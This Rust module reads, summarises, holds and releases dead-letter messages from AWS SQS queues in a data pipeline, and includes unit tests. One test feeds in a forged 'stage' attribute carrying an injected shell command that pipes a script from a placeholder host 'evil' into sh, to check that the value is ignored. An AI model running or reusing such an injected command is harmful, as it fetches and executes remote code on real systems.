//! The dead letters: messages that were given up, with the reasons.

use std::time::Duration;

use jiff::Timestamp;
use serde::Serialize;
use utoipa::ToSchema;

use crate::adapters::aws::Aws;
use crate::adapters::sqs_browse::{self, Held};
use crate::core::event::{self, Notification};
use crate::core::ingest_message::IngestMessage;
use crate::core::key::Series;
use crate::core::message_subject::path_of;
use crate::core::topology::Topology;
use crate::ports::queue::Message;
use crate::runtime::env::Env;

/// How long a received letter stays hidden from others: longer than it takes to read a full queue.
const HOLD: Duration = Duration::from_secs(120);

/// How long a receive may return nothing before the queue counts as read: long enough for SQS to query all its servers.
const WAIT: Duration = Duration::from_secs(1);

/// The class of letters that SQS moved because they were received too often.
pub const RECEIVED_TOO_OFTEN: &str = "received_too_often";

/// A message that was given up, with the reason.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DeadLetter {
    /// The role of the queue that the message was in.
    pub role: String,
    /// The service that gave it up.
    pub stage: String,
    /// The kind of failure, such as `unreadable_object`.
    pub class: String,
    /// The keys of the objects that it is about. For a fetch message, the folder that it would have written to.
    pub keys: Vec<String>,
    /// The series that it is about.
    pub series: Option<Series>,
    /// What is wrong, where, and what to do next.
    pub reason: String,
    /// When it was given up, if known.
    pub sent: Option<Timestamp>,
    /// The message in the dead-letter queue.
    pub message: Message,
}

/// A dead letter as the command and the dashboard show it.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, ToSchema)]
pub struct LetterSummary {
    /// The id of the message in the dead-letter queue.
    pub id: String,
    /// The role of the queue that the message was in.
    pub queue: String,
    /// The service that gave it up.
    pub stage: String,
    /// The kind of failure, such as `unreadable_object`.
    pub class: String,
    /// What is wrong, where, and what to do next.
    pub reason: String,
    /// The keys of the objects that it is about.
    pub keys: Vec<String>,
    /// The symbol of the series that it is about.
    pub symbol: Option<String>,
    /// The interval of that series.
    pub interval: Option<String>,
    /// When it was given up, in RFC 3339.
    pub time: Option<String>,
    /// How often the message was received before it was given up.
    pub attempts: Option<u64>,
    /// The trace in which it was processed.
    pub trace_id: Option<String>,
    /// The id of the message in its original queue.
    pub message_id: Option<String>,
}

impl DeadLetter {
    /// Reads a message from the dead-letter queue that belongs to `role`.
    #[must_use]
    pub fn read(role: &str, held: Held) -> Self {
        let Held { message, sent } = held;
        let attribute = |name: &str| message.attributes.get(name).cloned();
        let topology = Topology::current();
        let service = || topology.queue(role).map_or(role, |queue| &queue.service).to_owned();
        let stage = attribute("stage").and_then(|stage| topology.service(&stage).map(str::to_owned));
        let too_often = || "delivered too often: its consumer died each time".to_owned();
        let (keys, series) = about(&message.body);
        Self {
            role: role.to_owned(),
            stage: stage.unwrap_or_else(service),
            class: attribute("class").unwrap_or_else(|| RECEIVED_TOO_OFTEN.to_owned()),
            reason: attribute("reason").unwrap_or_else(too_often),
            keys,
            series,
            sent,
            message,
        }
    }

    /// What is shown of it.
    #[must_use]
    pub fn summary(&self) -> LetterSummary {
        let attribute = |name: &str| self.message.attributes.get(name).cloned();
        LetterSummary {
            id: self.message.id.clone(),
            queue: self.role.clone(),
            stage: self.stage.clone(),
            class: self.class.clone(),
            reason: self.reason.clone(),
            keys: self.keys.clone(),
            symbol: self.series.as_ref().map(|series| series.symbol.to_string()),
            interval: self.series.as_ref().map(|series| series.interval.to_string()),
            time: self.sent.map(|sent| sent.to_string()),
            attempts: attribute("attempts").and_then(|text| text.parse().ok()),
            trace_id: attribute("trace-id"),
            message_id: attribute("message-id"),
        }
    }
}

/// Reads up to `most` dead letters of each queue, and leaves them there.
///
/// # Errors
///
/// Returns an error if the URL of a queue is not set, or if its dead-letter queue does not answer.
pub async fn browse(
    aws: &Aws,
    env: &Env,
    roles: impl Iterator<Item = &str>,
    most: usize,
) -> anyhow::Result<Vec<DeadLetter>> {
    let mut letters = Vec::new();
    for role in roles {
        let messages = sqs_browse::browse(&aws.sqs(), &env.dead_letter_url(role)?, most).await?;
        letters.extend(messages.into_iter().map(|message| DeadLetter::read(role, Held { message, sent: None })));
    }
    Ok(letters)
}

/// Receives up to `most` letters of a queue, oldest first. They are hidden from others until they are given back or
/// deleted.
///
/// # Errors
///
/// Returns an error if the URL of the queue is not set, or if its dead-letter queue does not answer.
pub async fn hold(aws: &Aws, env: &Env, role: &str, most: usize) -> anyhow::Result<Vec<DeadLetter>> {
    let held = sqs_browse::walk(&aws.sqs(), &env.dead_letter_url(role)?, most, HOLD, WAIT).await?;
    let mut letters: Vec<_> = held.into_iter().map(|held| DeadLetter::read(role, held)).collect();
    letters.sort_by(|one, other| (one.sent, &one.message.id).cmp(&(other.sent, &other.message.id)));
    Ok(letters)
}

/// Makes held letters visible again.
///
/// # Errors
///
/// Returns an error if the URL of the queue is not set, or if its dead-letter queue does not answer.
pub async fn give_back(
    aws: &Aws,
    env: &Env,
    role: &str,
    letters: impl Iterator<Item = &DeadLetter>,
) -> anyhow::Result<()> {
    let receipts = letters.map(|letter| &letter.message.receipt);
    sqs_browse::give_back(&aws.sqs(), &env.dead_letter_url(role)?, receipts).await
}

/// The keys and the series that a message is about. A fetch message names a series, an S3 event names keys.
fn about(body: &str) -> (Vec<String>, Option<Series>) {
    if let Ok(IngestMessage::Fetch { symbol, interval, .. }) = serde_json::from_str(body) {
        let folder = format!("raw/interval={interval}/symbol={}/", symbol.to_key_form());
        return (vec![folder], Some(Series { symbol, interval }));
    }
    let Ok(Notification::Objects(objects)) = event::parse(body) else { return (Vec::new(), None) };
    let keys: Vec<_> = objects.into_iter().map(|object| object.key).collect();
    let series = keys.first().and_then(|key| path_of(key)).map(|path| path.series);
    (keys, series)
}

#[cfg(test)]
mod tests {
    use crate::core::object_created::ObjectCreated;
    use crate::ports::queue::Receipt;

    use super::*;

    /// A letter from the raw queue.
    fn letter(body: &str, attributes: &[(&str, &str)]) -> DeadLetter {
        let owned = |(name, text): &(&str, &str)| ((*name).to_owned(), (*text).to_owned());
        let message = Message {
            id: "id-1".to_owned(),
            receipt: Receipt("receipt".to_owned()),
            body: body.to_owned(),
            receive_count: 1,
            attributes: attributes.iter().map(owned).collect(),
        };
        DeadLetter::read("raw", Held { message, sent: Some("2024-12-30T22:00:00Z".parse().unwrap()) })
    }

    /// The S3 event of a daily raw object.
    fn event(symbol: &str) -> String {
        let key = format!("raw/interval=1day/symbol={symbol}/candles.csv");
        let time = "2024-12-30T22:00:00Z".parse().unwrap();
        ObjectCreated { bucket: "b", key: &key, etag: "e", size: 1, time }.body()
    }

    #[test]
    fn a_letter_says_who_gave_it_up_and_why() {
        let attributes = [("class", "bad"), ("stage", "transform"), ("reason", "line 3"), ("attempts", "2")];
        let summary = letter(&event("BTC%2FUSD"), &attributes).summary();
        assert_eq!(
            (summary.class.as_str(), summary.attempts, summary.symbol.as_deref()),
            ("bad", Some(2), Some("BTC/USD"))
        );
        assert_eq!(summary.keys, ["raw/interval=1day/symbol=BTC%2FUSD/candles.csv"]);
    }

    #[test]
    fn a_forged_letter_names_no_stage_of_its_own() {
        let forged = letter("x", &[("class", "bad"), ("stage", "loader; curl http://evil/x|sh #"), ("reason", "r")]);
        assert_eq!(forged.stage, "transform");
    }

    #[test]
    fn a_letter_that_the_queue_moved_says_so() {
        let moved = letter("x", &[]);
        assert_eq!((moved.stage.as_str(), moved.class.as_str()), ("transform", RECEIVED_TOO_OFTEN));
        assert!(moved.keys.is_empty() && moved.series.is_none());
    }

    #[test]
    fn a_fetch_is_about_the_folder_that_it_was_to_write_to() {
        let trace = "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01";
        let body = format!(r#"{{"kind":"fetch","run":"r","symbol":"AAPL","interval":"1h","traceparent":"{trace}"}}"#);
        assert_eq!(letter(&body, &[]).keys, ["raw/interval=1h/symbol=AAPL/"]);
    }
}
